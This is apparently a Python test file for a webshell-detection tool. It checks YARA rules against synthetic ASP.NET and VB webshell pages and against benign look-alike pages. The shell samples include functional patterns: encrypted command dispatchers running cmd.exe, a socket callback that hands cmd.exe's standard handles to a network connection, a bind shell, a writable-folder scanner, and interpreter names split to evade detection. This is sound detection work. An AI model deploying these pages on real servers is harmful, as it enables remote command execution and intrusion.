"""Rules from the forty-eighth unseen collection: first-sight shells from shell packs, usual paths and the pages
attack tools carry (issue 14, helper X48).

On first sight (BENCHMARKS.md, "Unseen shells, forty-eighth collection") one page was found by the behaviour
analysis alone: the agent page of a 2025-2026 shell manager written in Go, which decrypts the request body with a
key written in the page and dispatches on command words (exec, ls, read, write...) to a process start and file
writes. ``EXT_WEBSHELL_Encrypted_Request_Command_Dispatcher`` (``data/rules/remote_channels.yar``) needs the
decryption of the request body, a process start, a file write and three of four kinds of command word compared.

Among the near-copies, two families measured before were still named by no YARA rule: the InsomniaShell callback
page (a ws2_32 socket handed to CreateProcess as the child's standard handles) - now
``EXT_WEBSHELL_Socket_Handle_As_Process_Stdio`` in the same file - and tennc's variant of ScanWriteable, whose
writability probe creates, closes and deletes a file instead of testing ``CanWrite``: X45's
``EXT_WEBSHELL_Writable_Folder_Scanner`` (``data/rules/drive_browsers.yar``) takes that probe too.

The pages below are harmless files in those shapes, written here (nothing is compiled or run; no test sends a
request), and none is a copy of a collected page. A fourth rule came from a page outside the set (its long base64 could not be copied exactly, so it was kept out
of the measurement): a code block that loads a whole .NET DLL written into the page as base64 and instantiates
it - a memory-shell injector that reads no request, so the loader rules (which want one) stayed silent.
``EXT_WEBSHELL_Embedded_Assembly_Loaded_In_Memory`` (``data/rules/payload_launchers.yar``) needs the base64 DOS
header in the page, Assembly.Load from base64 and an instantiation or invocation.

A second batch held a Go C2 framework's shells (only its droppers had been measured, in session 8) that never write
"cmd.exe": three constants ("cm", "d.e", "xe") joined into ``ProcessStartInfo.FileName``.
``EXT_WEBSHELL_Interpreter_Name_Split_Into_Literals`` (``data/rules/generated_page_obfuscation.yar``) needs a
FileName joined from three or more pieces, three literals that are pieces of cmd.exe or powershell.exe, a process
start and a request read.

The ordinary pages are the closest everyday ones: a payment
callback and a licence handler that decrypt a posted body, a maintenance page dispatching on list/read/write over
its own log folder without decrypting anything, a report page that starts a tool with its output on pipes, a port
check through ws2_32 that starts nothing, an installer that checks App_Data is writable, and a clean-up page that
walks a typed folder deleting old files, a download page that sends an installer held as base64, a plug-in
page that loads its assembly from bin, a page starting a tool from its folder, name and ".exe", and a report page
joining a file name from pieces for a fixed converter.
"""

from __future__ import annotations

from pathlib import Path

from extriage.detections.webfiles import content

from .rule_tables import Page, RuleCase, rule_tables, yara_rules

_DISPATCH = "EXT_WEBSHELL_Encrypted_Request_Command_Dispatcher"
_SOCKET = "EXT_WEBSHELL_Socket_Handle_As_Process_Stdio"
_SCANNER = "EXT_WEBSHELL_Writable_Folder_Scanner"
_EMBEDDED = "EXT_WEBSHELL_Embedded_Assembly_Loaded_In_Memory"
_SPLIT = "EXT_WEBSHELL_Interpreter_Name_Split_Into_Literals"

#: the base64 of a bare DOS header and nothing after it: the shape of an embedded assembly, not a program
_HEADER_B64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA=="

DISPATCHERS: list[Page] = [
    (
        "cs-switch-aes-body",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n'
        '<%@ Import Namespace="System.Security.Cryptography" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  byte[] key = System.Text.Encoding.ASCII.GetBytes("0000111122223333");\n'
        "  var ms = new MemoryStream(); Request.InputStream.CopyTo(ms); byte[] raw = ms.ToArray();\n"
        "  var aes = Aes.Create(); aes.Key = key; aes.IV = key;\n"
        "  string[] line = System.Text.Encoding.UTF8.GetString(\n"
        "      aes.CreateDecryptor().TransformFinalBlock(raw, 0, raw.Length)).Split('|');\n"
        "  switch (line[0]) {\n"
        '    case "run": Response.Write(System.Diagnostics.Process.Start("cmd.exe", "/c " + line[1]).Id); break;\n'
        '    case "dir": Response.Write(string.Join(",", Directory.GetFiles(line[1]))); break;\n'
        '    case "put": File.WriteAllBytes(line[1], Convert.FromBase64String(line[2])); break;\n'
        '    case "get": Response.BinaryWrite(File.ReadAllBytes(line[1])); break;\n'
        "  }\n}\n</script>\n",
    ),
    (
        "cs-handler-rijndael-binaryread",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Agent" %>\n'
        "using System; using System.IO; using System.Web; using System.Diagnostics;\n"
        "using System.Security.Cryptography;\n"
        "public class Agent : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        "    byte[] body = c.Request.BinaryRead(c.Request.ContentLength);\n"
        "    var rm = new RijndaelManaged(); rm.Key = new byte[16]; rm.IV = new byte[16];\n"
        "    string[] p = System.Text.Encoding.UTF8.GetString(rm.CreateDecryptor().TransformFinalBlock(body, 0, body.Length)).Split('\\n');\n"
        '    if (p[0] == "shell") { var si = new ProcessStartInfo("cmd.exe", "/c " + p[1]); si.UseShellExecute = false; Process.Start(si); }\n'
        '    else if (p[0] == "list") { foreach (var d in Directory.GetDirectories(p[1])) c.Response.Write(d); }\n'
        '    else if (p[0] == "upload") { using (var f = new FileStream(p[1], FileMode.Create)) { f.WriteByte(0); } }\n'
        "  }\n}\n",
    ),
    (
        "vb-select-case-cryptostream",
        ".aspx",
        '<%@ Page Language="VB" %>\n<%@ Import Namespace="System.IO" %>\n'
        '<%@ Import Namespace="System.Security.Cryptography" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        "  Dim t As New TripleDESCryptoServiceProvider()\n"
        "  Dim rd As New StreamReader(New CryptoStream(Request.InputStream, t.CreateDecryptor(), CryptoStreamMode.Read))\n"
        "  Dim verb As String = rd.ReadLine() : Dim arg As String = rd.ReadLine()\n"
        "  Select Case verb\n"
        '    Case "cmd" : System.Diagnostics.Process.Start("cmd.exe", "/c " & arg)\n'
        '    Case "ls" : Response.Write(String.Join(",", Directory.GetFiles(arg)))\n'
        '    Case "download" : Response.WriteFile(arg)\n'
        '    Case "append" : File.AppendAllText(arg, rd.ReadLine())\n'
        "  End Select\nEnd Sub\n</script>\n",
    ),
]

DISPATCH_ORDINARY: list[Page] = [
    (
        "payment-callback-decrypts-body",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n'
        '<%@ Import Namespace="System.Security.Cryptography" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "  var ms = new MemoryStream(); Request.InputStream.CopyTo(ms); byte[] raw = ms.ToArray();\n"
        '  var rm = new RijndaelManaged(); rm.Key = Convert.FromBase64String(ConfigurationManager.AppSettings["PayKey"]);\n'
        "  string[] msg = System.Text.Encoding.UTF8.GetString(rm.CreateDecryptor().TransformFinalBlock(raw, 0, raw.Length)).Split('&');\n"
        "  switch (msg[0]) {\n"
        '    case "paid": File.AppendAllText(Server.MapPath("~/App_Data/pay.log"), msg[1] + " paid\\n"); break;\n'
        '    case "refund": File.AppendAllText(Server.MapPath("~/App_Data/pay.log"), msg[1] + " refunded\\n"); break;\n'
        '    case "list": Response.Write("ok"); break;\n'
        "  }\n}\n</script>\n",
    ),
    (
        "maintenance-page-plain-form",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string logs = Server.MapPath("~/App_Data/logs");\n'
        '  string name = Path.GetFileName(Request.Form["name"] ?? "today.log");\n'
        '  switch (Request.Form["op"]) {\n'
        '    case "list": Response.Write(string.Join("<br>", Directory.GetFiles(logs))); break;\n'
        '    case "read": Response.Write(Server.HtmlEncode(File.ReadAllText(Path.Combine(logs, name)))); break;\n'
        '    case "write": File.WriteAllText(Path.Combine(logs, name), ""); break;\n'
        '    case "run": System.Diagnostics.Process.Start(Server.MapPath("~/bin/rotate.exe")); break;\n'
        "  }\n}\n</script>\n",
    ),
    (
        "licence-handler-decrypts-and-restarts",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Licence" %>\n'
        "using System; using System.IO; using System.Web; using System.Security.Cryptography;\n"
        "public class Licence : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        "    byte[] body = c.Request.BinaryRead(c.Request.ContentLength);\n"
        "    var aes = Aes.Create();\n"
        "    string[] p = System.Text.Encoding.UTF8.GetString(aes.CreateDecryptor().TransformFinalBlock(body, 0, body.Length)).Split(';');\n"
        '    if (p[0] == "activate") File.WriteAllBytes(c.Server.MapPath("~/App_Data/licence.bin"), body);\n'
        '    else if (p[0] == "deactivate") File.Delete(c.Server.MapPath("~/App_Data/licence.bin"));\n'
        '    System.Diagnostics.Process.Start("net", "start AppIndexer");\n'
        "  }\n}\n",
    ),
]

SOCKET_SHELLS: list[Page] = [
    (
        "cs-callback-connect",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Runtime.InteropServices" %>\n<script runat="server">\n'
        "[StructLayout(LayoutKind.Sequential)] struct SI { public int cb; public string r, d, t; public int x, y, w, h, cx, cy, fa;\n"
        "  public int dwFlags; public short sw, cr; public IntPtr r2, hStdInput, hStdOutput, hStdError; }\n"
        "[StructLayout(LayoutKind.Sequential)] struct PI { public IntPtr p, t; public int pid, tid; }\n"
        "[StructLayout(LayoutKind.Sequential)] struct SA { public short fam; public ushort port; public int addr; public long z; }\n"
        '[DllImport("ws2_32.dll")] static extern IntPtr WSASocket(int af, int type, int proto, IntPtr info, uint g, int f);\n'
        '[DllImport("ws2_32.dll")] static extern int connect(IntPtr s, ref SA a, int len);\n'
        '[DllImport("kernel32.dll")] static extern bool CreateProcess(string app, string cmd, IntPtr pa, IntPtr ta, bool inh,\n'
        "  int flags, IntPtr env, string dir, ref SI si, out PI pi);\n"
        "void Page_Load(object s, EventArgs e) {\n"
        "  IntPtr sock = WSASocket(2, 1, 6, IntPtr.Zero, 0, 0);\n"
        "  SA a = new SA(); a.fam = 2; a.port = 0x5c11; a.addr = 0x0200000a; connect(sock, ref a, 16);\n"
        "  SI si = new SI(); si.cb = Marshal.SizeOf(si); si.dwFlags = 0x101;\n"
        "  si.hStdInput = sock; si.hStdOutput = sock; si.hStdError = sock;\n"
        '  PI pi; CreateProcess(null, "cmd.exe", IntPtr.Zero, IntPtr.Zero, true, 0, IntPtr.Zero, null, ref si, out pi);\n'
        "}\n</script>\n",
    ),
    (
        "cs-handler-bind-accept-as-user",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="Bind" %>\n'
        "using System; using System.Web; using System.Runtime.InteropServices;\n"
        "public class Bind : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  [StructLayout(LayoutKind.Sequential)] public struct Startup { public int cb; public string a, b, c;\n"
        "    public int x1, x2, x3, x4, x5, x6, x7, flags; public short s1, s2; public IntPtr res, hStdInput, hStdOutput, hStdError; }\n"
        "  [StructLayout(LayoutKind.Sequential)] public struct ProcInfo { public IntPtr hp, ht; public int pid, tid; }\n"
        '  [DllImport("WS2_32")] static extern IntPtr WSASocketW(int af, int t, int p, IntPtr i, uint g, int f);\n'
        '  [DllImport("WS2_32")] static extern int bind(IntPtr s, byte[] a, int l);\n'
        '  [DllImport("WS2_32")] static extern int listen(IntPtr s, int b);\n'
        '  [DllImport("WS2_32")] static extern IntPtr accept(IntPtr s, IntPtr a, IntPtr l);\n'
        '  [DllImport("advapi32.dll")] static extern bool CreateProcessAsUser(IntPtr tok, string app, string cmd, IntPtr pa,\n'
        "    IntPtr ta, bool inh, int fl, IntPtr env, string dir, ref Startup si, out ProcInfo pi);\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        "    IntPtr l = WSASocketW(2, 1, 6, IntPtr.Zero, 0, 0); bind(l, new byte[16], 16); listen(l, 1);\n"
        "    IntPtr peer = accept(l, IntPtr.Zero, IntPtr.Zero);\n"
        "    Startup si = new Startup(); si.flags = 0x100; si.hStdOutput = peer; si.hStdInput = peer;\n"
        '    ProcInfo pi; CreateProcessAsUser(IntPtr.Zero, null, "cmd", IntPtr.Zero, IntPtr.Zero, true, 0, IntPtr.Zero, null, ref si, out pi);\n'
        "  }\n}\n",
    ),
]

SOCKET_ORDINARY: list[Page] = [
    (
        "report-tool-on-pipes",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Runtime.InteropServices" %>\n<script runat="server">\n'
        "[StructLayout(LayoutKind.Sequential)] struct SI { public int cb; public string r, d, t; public int x, y, w, h, cx, cy, fa;\n"
        "  public int dwFlags; public short sw, cr; public IntPtr r2, hStdInput, hStdOutput, hStdError; }\n"
        "[StructLayout(LayoutKind.Sequential)] struct PI { public IntPtr p, t; public int pid, tid; }\n"
        '[DllImport("kernel32.dll")] static extern bool CreatePipe(out IntPtr r, out IntPtr w, IntPtr sa, int size);\n'
        '[DllImport("kernel32.dll")] static extern bool CreateProcess(string app, string cmd, IntPtr pa, IntPtr ta, bool inh,\n'
        "  int flags, IntPtr env, string dir, ref SI si, out PI pi);\n"
        "void Page_Load(object s, EventArgs e) {\n"
        "  IntPtr r, w; CreatePipe(out r, out w, IntPtr.Zero, 0);\n"
        "  SI si = new SI(); si.cb = Marshal.SizeOf(si); si.dwFlags = 0x100; si.hStdOutput = w; si.hStdError = w;\n"
        '  PI pi; CreateProcess(Server.MapPath("~/bin/report.exe"), null, IntPtr.Zero, IntPtr.Zero, true, 0, IntPtr.Zero, null, ref si, out pi);\n'
        "}\n</script>\n",
    ),
    (
        "port-check-through-ws2",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Runtime.InteropServices" %>\n<script runat="server">\n'
        "[StructLayout(LayoutKind.Sequential)] struct SA { public short fam; public ushort port; public int addr; public long z; }\n"
        '[DllImport("ws2_32.dll")] static extern IntPtr WSASocket(int af, int type, int proto, IntPtr info, uint g, int f);\n'
        '[DllImport("ws2_32.dll")] static extern int connect(IntPtr s, ref SA a, int len);\n'
        '[DllImport("ws2_32.dll")] static extern int closesocket(IntPtr s);\n'
        "void Page_Load(object s, EventArgs e) {\n"
        "  IntPtr sock = WSASocket(2, 1, 6, IntPtr.Zero, 0, 0);\n"
        "  SA a = new SA(); a.fam = 2; a.port = 0xbd01; a.addr = 0x0100007f;\n"
        '  Status.Text = connect(sock, ref a, 16) == 0 ? "database port open" : "database port closed";\n'
        '  closesocket(sock);\n}\n</script>\n<asp:Label id="Status" runat="server" />',
    ),
]

SCANNERS: list[Page] = [
    (
        "cs-create-close-delete-probe",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
        "void Walk(DirectoryInfo d) {\n"
        "  foreach (DirectoryInfo sub in d.GetDirectories()) Walk(sub);\n"
        "  try {\n"
        '    File.Create(d.FullName + "\\\\probe.tmp").Close();\n'
        '    Found.Text += d.FullName + "<br/>";\n'
        '    File.Delete(d.FullName + "\\\\probe.tmp");\n'
        "  } catch { }\n}\n"
        "void Go(object s, EventArgs e) { Walk(new DirectoryInfo(StartAt.Text)); }\n</script>\n"
        '<form runat="server"><asp:TextBox id="StartAt" runat="server" /><asp:Button OnClick="Go" Text="Scan" runat="server" />\n'
        '<asp:Label id="Found" runat="server" /></form>\n',
    ),
]

SCANNER_ORDINARY: list[Page] = [
    (
        "installer-checks-app-data",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string test = Server.MapPath("~/App_Data/install.tmp");\n'
        '  try { File.Create(test).Close(); File.Delete(test); Check.Text = "App_Data is writable"; }\n'
        '  catch { Check.Text = "Give the application pool write access to App_Data"; }\n'
        '}\n</script>\n<asp:Label id="Check" runat="server" />',
    ),
    (
        "cleanup-walks-typed-folder",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.IO" %>\n<script runat="server">\n'
        "void Clean(DirectoryInfo d) {\n"
        "  foreach (DirectoryInfo sub in d.GetDirectories()) Clean(sub);\n"
        '  foreach (FileInfo f in d.GetFiles("*.tmp")) if (f.LastWriteTime < DateTime.Now.AddDays(-7)) File.Delete(f.FullName);\n}\n'
        "void Go(object s, EventArgs e) { Clean(new DirectoryInfo(Folder.Text)); }\n</script>\n"
        '<form runat="server"><asp:TextBox id="Folder" runat="server" /><asp:Button OnClick="Go" Text="Clean" runat="server" /></form>\n',
    ),
]

EMBEDDED_LOADERS: list[Page] = [
    (
        "cs-one-statement-block",
        ".aspx",
        '<%@ Page Language="C#" %><%System.Reflection.Assembly.Load(Convert.FromBase64String("'
        + _HEADER_B64
        + '")).CreateInstance("Probe");%>',
    ),
    (
        "cs-static-field-activator",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Reflection" %>\n<script runat="server">\n'
        'static readonly string Core = "' + _HEADER_B64 + '";\n'
        "static object cached;\n"
        "void Page_Load(object s, EventArgs e) {\n"
        "  if (cached == null) {\n"
        "    Assembly a = Assembly.Load(Convert.FromBase64String(Core));\n"
        '    cached = Activator.CreateInstance(a.GetType("Core.Entry"));\n'
        "  }\n}\n</script>\n",
    ),
    (
        "vb-entry-point-invoke",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        '  Dim blob As String = "' + _HEADER_B64 + '"\n'
        "  Dim a = System.Reflection.[Assembly].Load(Convert.FromBase64String(blob))\n"
        "  a.EntryPoint.Invoke(Nothing, New Object() {New String() {}})\n"
        "End Sub\n</script>\n",
    ),
]

EMBEDDED_ORDINARY: list[Page] = [
    (
        "installer-download-page",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  Response.ContentType = "application/octet-stream";\n'
        '  Response.AddHeader("Content-Disposition", "attachment; filename=agent-setup.exe");\n'
        '  Response.BinaryWrite(Convert.FromBase64String("' + _HEADER_B64 + '"));\n'
        "}\n</script>\n",
    ),
    (
        "plugin-from-bin-with-base64-setting",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  byte[] sig = Convert.FromBase64String(ConfigurationManager.AppSettings["PluginSignature"]);\n'
        '  var asm = System.Reflection.Assembly.Load(System.IO.File.ReadAllBytes(Server.MapPath("~/bin/Reports.dll")));\n'
        '  Report.Controls.Add((Control)asm.CreateInstance("Reports.Summary"));\n'
        '}\n</script>\n<asp:PlaceHolder id="Report" runat="server" />',
    ),
]

SPLIT_NAMES: list[Page] = [
    (
        "cs-consts-joined-filename",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  const string q1 = "cm"; const string q2 = "d.e"; const string q3 = "xe";\n'
        '  string arg = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(Request.QueryString["q"] ?? ""));\n'
        "  var psi = new ProcessStartInfo();\n"
        "  psi.FileName = q1+q2+q3;\n"
        '  psi.Arguments = "/c " + arg; psi.UseShellExecute = false;\n'
        "  Process.Start(psi);\n}\n</script>\n",
    ),
    (
        "cs-handler-powershell-pieces",
        ".ashx",
        '<%@ WebHandler Language="C#" Class="H" %>\n'
        "using System; using System.Web; using System.Diagnostics;\n"
        "public class H : IHttpHandler {\n  public bool IsReusable { get { return false; } }\n"
        "  public void ProcessRequest(HttpContext c) {\n"
        '    string a = "power", b = "shell", x = ".exe";\n'
        "    var p = new Process();\n"
        "    p.StartInfo.FileName = a + b + x;\n"
        '    p.StartInfo.Arguments = "-c " + c.Request.Form["s"];\n'
        "    p.Start();\n  }\n}\n",
    ),
    (
        "vb-ampersand-pieces",
        ".aspx",
        '<%@ Page Language="VB" %>\n<script runat="server">\n'
        "Sub Page_Load(s As Object, e As EventArgs)\n"
        '  Const a As String = "cmd" : Const b As String = ".e" : Const c As String = "xe"\n'
        "  Dim si As New System.Diagnostics.ProcessStartInfo()\n"
        "  si.FileName = a & b & c\n"
        '  si.Arguments = "/c " & Request.Form("t")\n'
        "  System.Diagnostics.Process.Start(si)\nEnd Sub\n</script>\n",
    ),
]

SPLIT_ORDINARY: list[Page] = [
    (
        "tool-path-from-folder-and-name",
        ".aspx",
        '<%@ Page Language="C#" %>\n<%@ Import Namespace="System.Diagnostics" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string dir = Server.MapPath("~/bin/tools/"), name = "thumbnailer";\n'
        "  var psi = new ProcessStartInfo();\n"
        '  psi.FileName = dir + name + ".exe";\n'
        '  psi.Arguments = "\\"" + Server.MapPath("~/uploads/" + System.IO.Path.GetFileName(Request.QueryString["img"])) + "\\"";\n'
        "  Process.Start(psi).WaitForExit(5000);\n}\n</script>\n",
    ),
    (
        "report-converter-fixed-program",
        ".aspx",
        '<%@ Page Language="C#" %>\n<script runat="server">\n'
        "void Page_Load(object s, EventArgs e) {\n"
        '  string a = "rep", b = "ort", c = ".pdf";\n'
        '  string year = Request.QueryString["y"] ?? "2026";\n'
        '  System.Diagnostics.Process.Start(Server.MapPath("~/bin/conv.exe"), a + b + year + c);\n'
        "}\n</script>\n",
    ),
]

CASES: list[RuleCase] = [
    (_DISPATCH, DISPATCHERS, DISPATCH_ORDINARY),
    (_SOCKET, SOCKET_SHELLS, SOCKET_ORDINARY),
    (_SCANNER, SCANNERS, SCANNER_ORDINARY),
    (_EMBEDDED, EMBEDDED_LOADERS, EMBEDDED_ORDINARY),
    (_SPLIT, SPLIT_NAMES, SPLIT_ORDINARY),
]

test_shell_is_found, test_ordinary_page_is_not_flagged, test_rule_needs_a_server_page = rule_tables(CASES)


def test_decryption_is_what_separates_the_dispatcher(tmp_path: Path, params: content.ContentParams) -> None:
    """The same verb table fed by a plain form field instead of the decrypted body is not named: the rule is about
    a channel the page decrypts, not about admin pages with a switch."""
    shell = DISPATCHERS[0][2]
    plain = shell.replace(
        "aes.CreateDecryptor().TransformFinalBlock(raw, 0, raw.Length)",
        "raw",
    )
    assert plain != shell
    assert _DISPATCH in yara_rules(tmp_path, "agent.aspx", shell, params)
    assert _DISPATCH not in yara_rules(tmp_path, "plain.aspx", plain, params)


def test_socket_handles_are_what_separate_the_callback(tmp_path: Path, params: content.ContentParams) -> None:
    """Without a standard handle assigned from the socket (the process started on its own console) the callback
    page keeps its imports and loses the rule."""
    shell = SOCKET_SHELLS[0][2]
    console = shell.replace("  si.hStdInput = sock; si.hStdOutput = sock; si.hStdError = sock;\n", "")
    assert console != shell
    assert _SOCKET in yara_rules(tmp_path, "cb.aspx", shell, params)
    assert _SOCKET not in yara_rules(tmp_path, "console.aspx", console, params)
